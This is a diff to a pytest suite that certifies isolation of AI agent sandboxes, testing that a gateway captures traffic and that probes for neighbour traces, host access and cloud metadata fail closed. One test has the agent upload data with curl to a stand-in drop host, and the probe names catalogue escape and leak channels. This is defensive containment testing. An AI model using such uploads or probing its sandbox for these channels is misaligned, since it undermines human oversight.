@@ -7,20 +7,19 @@ from collections import Counter
 
 import anyio
 import pytest
+from inspect_ai.util import SandboxEnvironment
 
 from sandbox import cell
 from sandbox.cell import Provider
-from sandbox.certify import GROUPS, certify_fresh, run_key, verify
+from sandbox.certificate.cells import fresh_cell
+from sandbox.certify import GROUPS, Certificate, certify, certify_fresh, run_key, verify
+from sandbox.gateway.capture import Capture, read_capture
 
 PROVIDERS = [
     pytest.param("namespace", marks=pytest.mark.namespace),
     pytest.param("docker", marks=pytest.mark.docker),
 ]
 # Findings of the certificate's own, each waiting for a line in the cell it is about.
-KNOWN_OPEN = {
-    "namespace": {"resources.shared_memory"},  # /dev and /dev/shm have no size in the box
-    "docker": {"ns.own_cgroup"},  # compose.yaml does not say `cgroup: private`
-}
 # What Docker cannot have closed without another filter, a user mapping or quotas.
 DOCKER_EXCEPTIONS = {
     "priv.root_of_the_host",
@@ -31,6 +30,7 @@ DOCKER_EXCEPTIONS = {
     "syscalls.take_descriptors",
     "syscalls.type_ahead",
     "sockets.netlink_audit",
+    "sockets.netlink_connector",
     "sockets.netlink_diagnosis",
     "sockets.netlink_generic",
     "sockets.netlink_netfilter",
@@ -45,7 +45,13 @@ DOCKER_EXCEPTIONS = {
     "leaks.machine_id",  # a host without one
 }
 EXCEPTIONS = {
-    "namespace": {"resources.memory_in_all", "net.host6", "net.host_datagrams", "leaks.machine_id"},
+    "namespace": {
+        "resources.memory_in_all",  # no control group
+        "resources.core_dumps",  # a host with a crash handler
+        "net.host6",
+        "net.host_datagrams",
+        "leaks.machine_id",
+    },
     "docker": DOCKER_EXCEPTIONS,
 }
 
@@ -59,9 +65,81 @@ def test_a_fresh_cell_is_closed(provider: Provider) -> None:
         verdict: {p.name: p.detail for p in certificate.probes if p.verdict == verdict}
         for verdict in ("failed", "not applicable")
     }
-    assert by_verdict["failed"].keys() <= KNOWN_OPEN[provider], by_verdict["failed"]
+    assert not by_verdict["failed"]
     assert by_verdict["not applicable"].keys() <= EXCEPTIONS[provider]
     assert all(detail for detail in by_verdict["not applicable"].values()), "each with its reason"
     assert len(certificate.probes) >= 90
     assert Counter(p.group for p in certificate.probes).keys() == set(GROUPS)
     assert verify(json.loads(json.dumps(certificate.to_json())), run_key())
+
+
+@pytest.mark.namespace
+def test_the_certificate_names_the_streams_that_are_not_the_agents_doing() -> None:
+    async def main() -> tuple[Certificate, Capture]:
+        async with fresh_cell("namespace") as (agent, gateway):
+            certificate = await certify(agent, gateway)
+            await agent.exec(["curl", "-s", "-d", "agent", "http://drop.example/"], timeout=20)
+            return certificate, await capture_of(gateway)
+
+    certificate, capture = anyio.run(main)
+    assert capture.nonce == certificate.nonce
+    others = [s for s in capture.streams if s.id not in certificate.streams]
+    # What is left is the agent's: its name's look-up and its upload.
+    assert {s.layer for s in others} == {"dns", "http"}
+    assert any(b"agent" in s.out for s in others)
+
+
+@pytest.mark.namespace
+def test_nothing_is_left_in_either_box() -> None:
+    look = "find /home/* /srv /tmp /var/tmp /dev/shm -mindepth 1; ls /proc | grep '^[0-9]'"
+
+    async def main() -> list[str]:
+        async with fresh_cell("namespace") as (a, gateway), fresh_cell("namespace") as (b, _):
+            await certify(a, gateway, neighbour=b)
+            return [(await box.exec(["bash", "-c", look], timeout=20)).stdout for box in (a, b)]
+
+    for left in anyio.run(main):
+        # The box's own init and this command: its shell, ls and grep.
+        assert len(left.split()) <= 4, left
+
+
+@pytest.mark.namespace
+def test_traces_of_a_neighbour_that_is_the_same_box_are_found() -> None:
+    """Two samples in one box: all that is planted for one is seen by the other."""
+
+    async def main() -> Certificate:
+        async with fresh_cell("namespace") as (agent, gateway):
+            return await certify(agent, gateway, neighbour=agent)
+
+    certificate = anyio.run(main)
+    assert {p.name for p in certificate.failed} == {
+        *("fs.neighbour_files", "ns.neighbour_process", "ns.neighbour_socket"),
+        *("ns.abstract_sockets", "net.neighbour"),
+    }
+
+
+@pytest.mark.namespace
+def test_a_box_whose_gateway_is_another_ones_is_not_certified() -> None:
+    async def main() -> Certificate:
+        async with fresh_cell("namespace") as (agent, _), fresh_cell("namespace") as (_, other):
+            return await certify(agent, other)
+
+    certificate = anyio.run(main)
+    failed = {p.name for p in certificate.failed}
+    assert {"net.capture", "net.public4", "net.metadata_aws", "net.datagram4"} <= failed
+
+
+@pytest.mark.namespace
+def test_a_gateway_that_is_gone_is_not_certified() -> None:
+    async def main() -> Certificate:
+        async with fresh_cell("namespace") as (agent, gateway):
+            await gateway.exec(["seal"])
+            return await certify(agent, gateway)
+
+    failed = {p.name for p in anyio.run(main).failed}
+    assert {"net.capture", "net.public4", "net.dns4", "net.tls"} <= failed
+
+
+async def capture_of(gateway: SandboxEnvironment) -> Capture:
+    events = await gateway.read_file("/capture/events.jsonl", text=False)
+    return read_capture(events, await gateway.read_file("/capture/bytes.bin", text=False))
